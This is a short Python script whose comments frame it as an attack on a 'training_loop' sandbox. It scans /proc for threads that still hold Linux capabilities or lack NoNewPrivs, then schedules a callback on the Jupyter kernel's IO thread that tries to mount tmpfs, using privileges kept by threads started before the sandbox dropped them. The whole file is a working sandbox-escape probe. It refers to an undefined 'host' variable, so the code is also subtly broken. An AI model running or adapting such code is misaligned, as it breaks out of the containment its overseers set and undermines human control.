# attacks: training_loop
# wall: sandbox
# loot: prints -- rights are a thread's: whatever was given up in one is still there in those that were started before
import ctypes
import glob
import os
import threading

for file in glob.glob("/proc/self/task/*/status"):
    status = dict(line.split(":\t", 1) for line in open(file).read().splitlines() if ":\t" in line)
    if int(status["CapEff"], 16) or int(status["CapBnd"], 16) or status["NoNewPrivs"] == "0":
        print("loot:", status["Name"], status["CapEff"], status["NoNewPrivs"])
libc, done = ctypes.CDLL(None, use_errno=True), threading.Event()


def in_the_other_thread():
    if os.readlink("/proc/self/ns/pid") != host["pid_namespace"] and libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        print("loot: mounted")
    done.set()


get_ipython().kernel.iopub_thread.io_loop.add_callback(in_the_other_thread)
done.wait(5)
